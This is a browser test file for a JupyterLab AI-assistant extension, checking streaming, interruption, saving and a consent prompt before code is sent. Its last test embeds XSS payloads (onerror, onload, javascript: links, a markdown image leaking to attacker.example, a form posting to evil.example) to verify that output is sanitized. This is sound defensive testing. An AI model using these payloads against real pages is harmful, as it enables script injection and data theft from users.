"""`%%secgemini` in a real JupyterLab: what a user sees, stops and saves."""

from __future__ import annotations

import shutil
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest
from playwright.sync_api import expect

pytestmark = pytest.mark.browser

NOTEBOOKS = Path(__file__).parents[2] / "notebooks"
LOAD = "%load_ext secgemini_jupyter"
ECHO = "%secgemini new --model local-echo"


@pytest.fixture(scope="module", autouse=True)
def end_the_local_service(lab_server: Any) -> Iterator[None]:
    yield
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("JUPYTER_RUNTIME_DIR", str(lab_server.root.parent / "runtime"))
        from secgemini_jupyter import embedded

        embedded.stop()


def displays(cell: nbformat.NotebookNode) -> list[nbformat.NotebookNode]:
    return [output for output in cell.outputs if output.output_type == "display_data"]


def test_the_quickstart_runs_and_saves_one_output_an_answer(lab_server: Any, page: Any) -> None:
    shutil.copytree(NOTEBOOKS / "data", lab_server.root / "data", dirs_exist_ok=True)
    document = nbformat.read(NOTEBOOKS / "01_quickstart.ipynb", as_version=4)
    notebook = lab_server.show(page, document)
    notebook.run_all()
    position = next(i for i, cell in enumerate(document.cells) if "CVSS:3.1" in cell.source)
    page.locator(".jp-Notebook .jp-Cell").nth(position).scroll_into_view_if_needed()  # Lab draws what is in sight
    shown = notebook.output(position).filter(has_text="6.1 Medium")
    shown.get_by_text("not Sec-Gemini").wait_for()
    assert shown.bounding_box()["width"] <= 900
    saved = notebook.save()
    answers = [cell for cell in saved.cells if cell.source.startswith("%%secgemini")]
    assert len(answers) >= 5
    for cell in answers:
        (display,) = displays(cell)
        assert set(display.data) == {"text/html", "text/plain"}
        assert display.metadata["secgemini"]["status"] == "ok"


def test_an_answer_streams_in_and_ends_as_one_output(lab: Callable[..., Any]) -> None:
    notebook = lab(LOAD, ECHO, "%%secgemini\n[[messages=30 bytes=20]] [[delay=0.1]] the end")
    page = notebook.page
    page.evaluate("() => { jupyterapp.commands.execute('notebook:run-all-cells') }")
    output = notebook.output(2)
    page.wait_for_function(
        "() => /calling|answering|working|thinking|thought/i.test("
        "document.querySelectorAll('.jp-Notebook .jp-Cell')[2].querySelector('.jp-OutputArea')?.innerText ?? '')"
    )
    while_running = output.first.inner_text()
    assert "turn 1" not in while_running
    page.get_by_text("turn 1").wait_for()
    assert output.count() == 1
    assert "the end" in output.first.inner_text()
    (display,) = displays(notebook.save().cells[2])
    assert display.metadata["secgemini"]["status"] == "ok"


def test_stop_keeps_what_came_and_the_next_cell_works(lab: Callable[..., Any]) -> None:
    notebook = lab(LOAD, ECHO, "%%secgemini -o slow\n[[messages=500 bytes=20]] [[delay=0.1]] late", "after = 1")
    page = notebook.page
    page.evaluate("() => { window.ran = jupyterapp.commands.execute('notebook:run-all-cells') }")
    page.wait_for_function(
        "() => document.querySelectorAll('.jp-Notebook .jp-Cell')[2].querySelector('.jp-OutputArea-output')"
    )
    time.sleep(0.5)  # a moment into the stream, not a wait for anything
    page.evaluate("() => jupyterapp.commands.execute('notebook:interrupt-kernel')")
    page.evaluate("() => window.ran")
    saved = notebook.save().cells
    (display,) = displays(saved[2])
    assert display.metadata["secgemini"]["status"] == "interrupted"
    (error,) = [output for output in saved[2].outputs if output.output_type == "error"]
    assert error.ename == "Interrupted"
    assert "reconnect" in "".join(error.traceback)
    assert saved[3].execution_count is None, "Run All goes no further"
    assert notebook.python("print(slow.status, 'after' in globals())").split() == ["interrupted", "False"]
    assert notebook.python("%secgemini new --model local-echo\nprint('usable')").split()[-1] == "usable"


def test_fix_shows_what_it_sends_and_asks_first(lab: Callable[..., Any]) -> None:
    notebook = lab(LOAD, ECHO, "rows = ['5']\ntotal = 1 + rows[0]", "%secgemini fix")
    page = notebook.page
    page.evaluate("() => jupyterapp.commands.execute('notebook:run-all-cells')")
    page.evaluate(
        "() => { const notebook = jupyterapp.shell.currentWidget.content; notebook.activeCellIndex = 3;"
        " window.ran = jupyterapp.commands.execute('notebook:run-cell') }"
    )
    field = page.locator(".jp-Stdin-input")
    field.wait_for()
    shown = notebook.output(3).first
    expect(shown).to_contain_text("To be sent to")
    expect(shown).to_contain_text("total = 1 + rows[0]")
    field.fill("y")
    field.press("Enter")
    page.evaluate("() => window.ran")
    expect(notebook.output(3).last).to_contain_text("turn 1")
    expect(notebook.output(3).last).to_contain_text("unsupported operand")


def test_hostile_text_runs_nothing_in_a_trusted_cell(lab: Callable[..., Any]) -> None:
    hostile = (
        "<img src=x onerror='window.pwned=1'><script>window.pwned=2</script>\n"
        "[click](javascript:window.pwned=3) ![x](https://attacker.example/leak?q=1)\n"
        "<button data-commandlinker-command='notebook:run-all-cells' data-commandlinker-args='{}'>go</button>\n"
        "<svg onload='window.pwned=4'></svg> <style>body{display:none}</style> <form id=login action=//evil.example>"
    )
    notebook = lab(LOAD, ECHO, f"%%secgemini\n{hostile}", f"%%secgemini\n[[type sec-gemini/html {hostile}]] x")
    asked: list[str] = []
    notebook.page.on("request", lambda request: asked.append(request.url))
    notebook.run_all()
    notebook.page.wait_for_timeout(300)
    assert notebook.page.evaluate("() => window.pwned") is None
    assert not [url for url in asked if "attacker.example" in url or "evil.example" in url]
    for cell in (2, 3):
        output = notebook.output(cell).first
        assert output.locator("img, script, svg, form, button, style, [id], [onerror]").count() == 0
        assert "attacker" in output.inner_text(), "shown as text"
    for cell in notebook.save().cells[2:]:
        assert "text/markdown" not in displays(cell)[0].data
